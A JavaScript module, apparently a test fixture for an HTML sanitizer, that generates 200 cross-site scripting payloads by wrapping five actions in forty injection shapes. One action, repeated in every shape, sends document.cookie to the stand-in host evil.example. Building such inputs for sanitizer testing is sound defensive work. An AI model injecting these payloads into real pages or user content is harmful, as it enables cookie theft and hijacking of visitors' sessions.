// 200 texts that a careless page would execute, fetch or follow.

const ACTS = [
  "alert(1)", "confirm(2)", "prompt(3)", "fetch('https://evil.example/'+document.cookie)",
  "location='https://evil.example'",
];

const SHAPES = [
  (act) => `<script>${act}</script>`,
  (act) => `<ScRiPt>${act}</sCrIpT>`,
  (act) => `"><script>${act}</script>`,
  (act) => `'><script>${act}</script>`,
  (act) => `</textarea><script>${act}</script>`,
  (act) => `</pre></code></details><script>${act}</script>`,
  (act) => `</title><script>${act}</script>`,
  (act) => `<img src=x onerror="${act}">`,
  (act) => `<img src="https://evil.example/x.png" onload="${act}">`,
  (act) => `<svg onload="${act}">`,
  (act) => `<svg><animate onbegin="${act}" attributeName=x dur=1s>`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<math><mtext><script>${act}</script></mtext></math>`,
  (act) => `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  (act) => `<iframe src="javascript:${act}"></iframe>`,
  (act) => `<object data="javascript:${act}"></object>`,
  (act) => `<embed src="javascript:${act}">`,
  (act) => `<a href="javascript:${act}">look</a>`,
  (act) => `[look](javascript:${act})`,
  (act) => `![look](https://evil.example/${encodeURIComponent(act)}.png)`,
  (act) => `<details open ontoggle="${act}">`,
  (act) => `<input autofocus onfocus="${act}">`,
  (act) => `<video><source onerror="${act}"></video>`,
  (act) => `<audio src=x onerror="${act}">`,
  (act) => `<body onpageshow="${act}">`,
  (act) => `<form action="https://evil.example"><button formaction="javascript:${act}">ok</button></form>`,
  (act) => `<base href="https://evil.example/"><!-- ${act} -->`,
  (act) => `<meta http-equiv="refresh" content="0;url=javascript:${act}">`,
  (act) => `<link rel="stylesheet" href="https://evil.example/${encodeURIComponent(act)}.css">`,
  (act) => `<style>@import "https://evil.example/x.css";/* ${act} */</style>`,
  (act) => `" onmouseover="${act}" x="`,
  (act) => `' onfocus='${act}' autofocus='`,
  (act) => `{{ ${act} }}{% raw %}{% endraw %}`,
  (act) => `\${${act}}`,
  (act) => `&lt;script&gt;${act}&lt;/script&gt;`,
  (act) => `\u003cscript\u003e${act}\u003c/script\u003e`,
  (act) => `<noscript><p title="</noscript><script>${act}</script>">`,
  (act) => `<template><script>${act}</script></template>`,
  (act) => `<xss style="animation-name:x" onanimationstart="${act}">`,
  (act) => `data: {"x":1}\\n\\nevent: part\\ndata: {"name":"head","html":"<script>${act}</script>"}`,
];

/** All of them. */
export const hostile = () => SHAPES.flatMap((shape) => ACTS.map(shape));
